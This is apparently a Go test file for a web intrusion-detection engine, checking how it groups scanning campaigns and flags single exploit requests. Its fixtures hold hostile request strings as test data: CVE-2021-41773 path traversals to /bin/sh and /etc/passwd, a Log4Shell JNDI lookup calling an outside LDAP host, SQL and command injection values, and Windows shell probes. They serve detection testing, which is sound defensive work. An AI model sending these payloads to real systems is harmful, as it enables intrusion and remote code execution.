package detect

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/gatewatch/gatewatch/ingest"
)

// campaignRun feeds each client's requests, one client a minute, and
// returns the resolved findings.
func campaignRun(t *testing.T, clients int, reqs func(c int) []string, status func(path string) int) []Finding {
	t.Helper()
	var out []Finding
	e := New(Options{CampaignGap: -1, Emit: func(f Finding) {
		if f.Status == StatusResolved {
			out = append(out, f)
		}
	}})
	var ev ingest.Event
	for c := range clients {
		for i, p := range reqs(c) {
			ev.Reset()
			ev.Time = t0.Add(time.Duration(c)*7*time.Minute + time.Duration(i)*time.Second)
			ev.ClientKey, ev.ClientKind = "203.0.113."+itoa(c), ingest.ClientIP
			ev.Method, ev.Path, ev.Route, ev.Status = "GET", p, p, status(p)
			e.Observe(&ev)
		}
	}
	e.Flush()
	return out
}

// TestWormIsOneCampaign: ten addresses, seven minutes apart, each sending
// the same three Windows shell probes, are one campaign naming them all,
// not ten incidents.
func TestWormIsOneCampaign(t *testing.T) {
	t.Parallel()
	probes := []string{"/scripts/root.exe", "/MSADC/root.exe", "/c/winnt/system32/cmd.exe"}
	got := campaignRun(t, 10, func(int) []string { return probes }, func(string) int { return 404 })
	if len(got) != 1 {
		t.Fatalf("%d findings, want one campaign: %+v", len(got), got)
	}
	f := got[0]
	if f.Detector != DetectorCampaign || f.ClientKind != "campaign" || f.ClientCount != 10 || len(f.Clients) != 10 {
		t.Errorf("finding %s %s count %d clients %v, want a campaign of the 10 addresses", f.Detector, f.Client, f.ClientCount, f.Clients)
	}
	if f.Campaign != "windows-shell root.exe" {
		t.Errorf("campaign %q, want the probe it is named for", f.Campaign)
	}
}

// TestBrokenLinkIsNoCampaign: visitors whose page links to a file the
// site lost (/wp-content/... after a migration) get a 404 on a WordPress
// path each, among the page's other requests: no campaign.
func TestBrokenLinkIsNoCampaign(t *testing.T) {
	t.Parallel()
	page := []string{"/", "/style.css", "/app.js", "/logo.png", "/about", "/about/team.jpg", "/wp-content/uploads/old.png"}
	status := func(p string) int {
		if p == "/wp-content/uploads/old.png" {
			return 404
		}
		return 200
	}
	if got := campaignRun(t, 30, func(int) []string { return page }, status); len(got) != 0 {
		t.Errorf("visitors with a broken link flagged: %+v", got[0])
	}
	// The same path alone, as a prober asks for it, is one.
	probe := func(int) []string { return []string{"/wp-content/uploads/old.png", "/"} }
	if got := campaignRun(t, 30, probe, status); len(got) != 1 || got[0].ClientCount != 30 {
		t.Errorf("probers of the path: %d findings, want one campaign of 30", len(got))
	}
}

// TestLoneExploitIsReported: one request that is an attack by itself (a
// traversal out of the web root, CVE-2021-41773's "/cgi-bin/.%2e/.%2e/",
// a Log4Shell lookup) from one client is reported, as a rule engine
// would, also when the engine was restored from a snapshot taken before
// its window closed; one relative link passed in a parameter, or one odd
// search term, is not.
func TestLoneExploitIsReported(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path string
		want string // the campaign, "" for none
	}{
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "cgi-bin"},
		{"/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "secrets"},
		{"/api/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D", "injection"},
		{"/download?file=..%2F..%2F..%2Fetc%2Fhostname", "injection"},
		{"/account/login?next=..%2Fsettings", ""},
		{"/api/search?q=1%27%20OR%20%271%27%3D%271", ""},
		{"/api/ping?host=127.0.0.1%7Cwhoami", ""},
	}
	for _, tt := range tests {
		for _, snap := range []bool{false, true} {
			got := loneRequest(t, tt.path, snap)
			switch {
			case tt.want == "" && len(got) != 0:
				t.Errorf("%s (snapshot %v): reported %s %s, want nothing", tt.path, snap, got[0].Detector, got[0].Campaign)
			case tt.want != "" && (len(got) != 1 || got[0].Campaign != tt.want || got[0].ClientCount != 1):
				t.Errorf("%s (snapshot %v): %d findings %+v, want campaign %q of the one client", tt.path, snap, len(got), got, tt.want)
			}
		}
	}
}

// loneRequest runs half an hour of an ordinary client, then one GET of
// target from another client, and returns the findings opened. With
// snap, the engine is snapshotted and restored before the window closes.
func loneRequest(t *testing.T, target string, snap bool) []Finding {
	t.Helper()
	var got []Finding
	opts := Options{CampaignGap: -1, Emit: func(f Finding) {
		if f.Status == StatusOpen {
			got = append(got, f)
		}
	}}
	e := New(opts)
	var ev ingest.Event
	for i := range 60 {
		ev.Reset()
		ev.Time = t0.Add(time.Duration(i) * 30 * time.Second)
		ev.ClientKey, ev.ClientKind, ev.Method, ev.Path, ev.Route, ev.Status = "198.51.100.1", ingest.ClientIP, "GET", "/", "/", 200
		e.Observe(&ev)
	}
	ev.Reset()
	ev.Time = t0.Add(30 * time.Minute)
	path, query, _ := strings.Cut(target, "?")
	ev.ClientKey, ev.ClientKind, ev.Method, ev.Path, ev.Route, ev.Query, ev.Status = "203.0.113.9", ingest.ClientIP, "GET", path, path, query, 404
	e.Observe(&ev)
	if snap {
		e = roundTrip(t, opts, e)
	}
	e.Flush()
	return got
}

// TestCampaignNamesSpreadHeavyClient: a client trying once a window for
// hours among hundreds trying once or twice is among the names, however
// late or spread its tries (Space-Saving ranking).
func TestCampaignNamesSpreadHeavyClient(t *testing.T) {
	t.Parallel()
	var c campaign
	heavy := 0
	for i := range 500 {
		c.rank(fmt.Sprint("198.51.100.", i%300), 1)
		if i%20 == 7 { // 25 tries, spread over the whole campaign
			c.rank("203.0.113.9", 1)
			heavy++
		}
	}
	got := c.ranked()
	if len(got) != maxCampaignNames {
		t.Fatalf("%d names, want %d", len(got), maxCampaignNames)
	}
	if got[0] != "203.0.113.9" {
		t.Errorf("the client with %d tries is not named first: %v", heavy, got)
	}
}
